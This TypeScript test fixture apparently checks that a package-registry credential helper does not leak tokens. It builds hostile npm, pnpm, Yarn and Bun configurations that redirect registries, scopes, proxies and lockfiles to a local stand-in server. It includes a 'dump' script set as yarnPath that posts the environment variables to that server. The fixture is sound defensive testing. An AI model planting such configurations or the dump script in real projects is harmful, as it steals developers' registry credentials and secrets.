// Projects that are after the credential: what their files say, to which package manager.
import type { Family } from './clients';
import type { Elsewhere } from './elsewhere';

export interface Hostile {
  readonly title: string;
  /** Files of the project by their paths. */
  readonly files: Partial<Record<Family, (at: Elsewhere, ca: string) => Record<string, string>>>;
  /** The lockfile alone counts. */
  readonly frozen?: boolean;
  /** It leads connections elsewhere: tried also by a user who has no proxy that would come first. */
  readonly leads?: boolean;
}

/** Every variable by which a credential, or a key to one, might be had. */
export const VARIABLES = [
  'CHAINGUARD_JAVASCRIPT_TOKEN',
  'CHAINGUARD_JAVASCRIPT_AUTH',
  'CHAINGUARD_TOKEN',
  'PULLTOKEN_SESSION_TOKEN',
  'PULLTOKEN_AGENT',
  'ACTIONS_ID_TOKEN_REQUEST_TOKEN',
  'NODE_AUTH_TOKEN',
  'NPM_TOKEN',
];

/** All of them in a URL, but for those that are not set: npm's family then takes the text as it is. */
const inPath = (variables = VARIABLES) => variables.map((name) => `\${${name}}`).join('/');
/** The same for Berry and pnpm, to which an unset variable is an error. */
const orNothing = () => VARIABLES.map((name) => `\${${name}:-}`).join('/');

const npmrc =
  (lines: (at: Elsewhere, ca: string) => string[]) =>
  (at: Elsewhere, ca: string): Record<string, string> => ({ '.npmrc': `${lines(at, ca).join('\n')}\n` });
const yarnrc =
  (lines: (at: Elsewhere, ca: string) => string[]) =>
  (at: Elsewhere, ca: string): Record<string, string> => ({ '.yarnrc.yml': `${lines(at, ca).join('\n')}\n` });
const bunfig =
  (lines: (at: Elsewhere, ca: string) => string[]) =>
  (at: Elsewhere, ca: string): Record<string, string> => ({ 'bunfig.toml': `${lines(at, ca).join('\n')}\n` });

const registry = npmrc((at) => [`registry=${at.url}/`, `//127.0.0.1:${at.port}/:always-auth=true`]);
const variables = npmrc((at) => [
  `@example:registry=${at.url}/${inPath(VARIABLES.slice(0, 1))}/`,
  `//127.0.0.1:${at.port}/:_authToken=\${CHAINGUARD_JAVASCRIPT_TOKEN}`,
  `//127.0.0.1:${at.port}/:_auth=\${CHAINGUARD_JAVASCRIPT_AUTH}`,
  `init-module=${at.url}/${inPath()}`,
]);
const variablesForPnpm = npmrc((at) => [
  `@example:registry=${at.url}/${orNothing()}/`,
  `//127.0.0.1:${at.port}/:_authToken=\${CHAINGUARD_JAVASCRIPT_TOKEN}`,
]);
const network = npmrc((at, ca) => [
  `https-proxy=${at.url}`,
  `proxy=${at.url}`,
  'strict-ssl=false',
  `cafile=${ca}`,
]);
const exceptions = npmrc(() => ['noproxy=libraries.cgr.dev', 'no-proxy=libraries.cgr.dev']);
const stale = npmrc(() => [
  '//libraries.cgr.dev/javascript/:_authToken=stale',
  '//libraries.cgr.dev/javascript-upstream/:_authToken=stale',
  '//libraries.cgr.dev/:_authToken=stale',
]);

export const HOSTILE: readonly Hostile[] = [
  {
    title: 'the registry is elsewhere',
    files: {
      npm: registry,
      pnpm: registry,
      'yarn classic': (at, ca) => ({ ...registry(at, ca), '.yarnrc': `registry "${at.url}/"\n` }),
      yarn: yarnrc((at) => [`npmRegistryServer: "${at.url}"`, 'unsafeHttpWhitelist: ["*"]', 'npmAlwaysAuth: true']),
      bun: bunfig((at) => ['[install]', `registry = { url = "${at.url}/", token = "$CHAINGUARD_JAVASCRIPT_TOKEN" }`]),
    },
  },
  {
    title: 'a scope is elsewhere, and every variable in its address',
    files: {
      npm: variables,
      pnpm: variablesForPnpm,
      'yarn classic': variables,
      yarn: yarnrc((at) => [
        'unsafeHttpWhitelist: ["*"]',
        'npmScopes:',
        '  example:',
        `    npmRegistryServer: "${at.url}/${orNothing()}"`,
        '    npmAlwaysAuth: true',
        '    npmAuthIdent: "${CHAINGUARD_JAVASCRIPT_IDENTITY_ID:-x}:${CHAINGUARD_JAVASCRIPT_TOKEN:-y}"',
      ]),
      bun: bunfig((at) => [
        '[install.scopes.example]',
        `url = "${at.url}/"`,
        'username = "$CHAINGUARD_JAVASCRIPT_IDENTITY_ID"',
        'password = "$CHAINGUARD_JAVASCRIPT_TOKEN"',
      ]),
    },
  },
  {
    title: 'connections go through its own proxy, and its authority is believed',
    leads: true,
    files: {
      npm: network,
      pnpm: network,
      'yarn classic': (at, ca) => ({
        ...network(at, ca),
        '.yarnrc': `https-proxy "${at.url}"\nproxy "${at.url}"\nstrict-ssl false\ncafile "${ca}"\n`,
      }),
      yarn: yarnrc((at) => [
        `httpsProxy: "${at.url}"`,
        `httpProxy: "${at.url}"`,
        'enableStrictSsl: false',
        'networkSettings:',
        '  "libraries.cgr.dev":',
        `    httpsProxy: "${at.url}"`,
        '    enableNetwork: true',
      ]),
      bun: (at) => ({
        '.env': `HTTPS_PROXY=${at.url}\nhttps_proxy=${at.url}\nNODE_TLS_REJECT_UNAUTHORIZED=0\n`,
      }),
    },
  },
  {
    title: 'the registry’s host is to be reached without a proxy',
    files: {
      npm: exceptions,
      pnpm: exceptions,
      'yarn classic': exceptions,
      bun: () => ({ '.env': 'NO_PROXY=libraries.cgr.dev\nno_proxy=libraries.cgr.dev\n' }),
    },
  },
  {
    title: 'the registry is elsewhere by a file of variables',
    files: { bun: (at) => ({ '.env': `BUN_CONFIG_REGISTRY=${at.url}/\nNPM_CONFIG_REGISTRY=${at.url}/\n` }) },
  },
  {
    title: 'the registry takes a stale token',
    files: { npm: stale, pnpm: stale, 'yarn classic': stale, yarn: yarnrc(() => [
      'npmRegistries:',
      '  "//libraries.cgr.dev/javascript":',
      '    npmAuthToken: stale',
      '    npmAlwaysAuth: true',
    ]), bun: stale },
  },
  {
    title: 'the lockfile points elsewhere',
    frozen: true,
    files: {
      npm: (at) => ({
        'package-lock.json': JSON.stringify({
          name: 'app',
          version: '1.0.0',
          lockfileVersion: 3,
          packages: {
            '': { name: 'app', version: '1.0.0', dependencies: DEPENDENCIES },
            'node_modules/left-hand': { version: '1.1.0', resolved: `${at.url}/left-hand/-/left-hand-1.1.0.tgz` },
          },
        }),
      }),
      pnpm: (at) => ({
        'pnpm-lock.yaml': [
          "lockfileVersion: '9.0'",
          'importers:',
          '  .:',
          '    dependencies:',
          '      left-hand:',
          '        specifier: 1.1.0',
          '        version: 1.1.0',
          'packages:',
          '  left-hand@1.1.0:',
          `    resolution: {integrity: ${INTEGRITY}, tarball: ${at.url}/left-hand/-/left-hand-1.1.0.tgz}`,
          'snapshots:',
          '  left-hand@1.1.0: {}',
          '',
        ].join('\n'),
      }),
      'yarn classic': (at) => ({
        'yarn.lock': `# yarn lockfile v1\n\n\nleft-hand@1.1.0:\n  version "1.1.0"\n  resolved "${at.url}/left-hand/-/left-hand-1.1.0.tgz#0123456789012345678901234567890123456789"\n`,
      }),
      yarn: (at) => ({
        '.yarnrc.yml': 'unsafeHttpWhitelist: ["*"]\n',
        'yarn.lock': [
          '__metadata:',
          '  version: 8',
          '',
          '"app@workspace:.":',
          '  version: 0.0.0-use.local',
          '  resolution: "app@workspace:."',
          '  dependencies:',
          '    left-hand: "npm:1.1.0"',
          '  languageName: unknown',
          '  linkType: soft',
          '',
          '"left-hand@npm:1.1.0":',
          '  version: 1.1.0',
          `  resolution: "left-hand@npm:1.1.0::__archiveUrl=${encodeURIComponent(`${at.url}/left-hand/-/left-hand-1.1.0.tgz`)}"`,
          '  checksum: 10c0/00',
          '  languageName: node',
          '  linkType: hard',
          '',
        ].join('\n'),
      }),
      bun: (at) => ({
        'bun.lock': JSON.stringify({
          lockfileVersion: 1,
          workspaces: { '': { name: 'app', dependencies: DEPENDENCIES } },
          packages: { 'left-hand': ['left-hand@1.1.0', `${at.url}/left-hand/-/left-hand-1.1.0.tgz`, {}, INTEGRITY] },
        }),
      }),
    },
  },
  {
    title: 'Yarn itself is the project’s, and tells its environment',
    files: {
      'yarn classic': (at) => ({ 'dump.cjs': dump(at), '.yarnrc': 'yarn-path "./dump.cjs"\n' }),
      yarn: (at) => ({ 'dump.cjs': dump(at), '.yarnrc.yml': 'yarnPath: ./dump.cjs\n' }),
    },
  },
];

export const DEPENDENCIES = { 'left-hand': '1.1.0' };
/** A scope's package beside it, for those that point the scope elsewhere. */
export const SCOPED = { ...DEPENDENCIES, '@example/scoped': '^1.0.0' };

const INTEGRITY = `sha512-${Buffer.alloc(64).toString('base64')}`;

/** A program that sends away what it is started with. */
function dump(at: Elsewhere): string {
  return `const body = JSON.stringify({ env: process.env, argv: process.argv });
require('node:fs').writeFileSync('dumped.json', body);
fetch('${at.url}/dump', { method: 'POST', body }).then(() => { process.exitCode = 0; });
`;
}
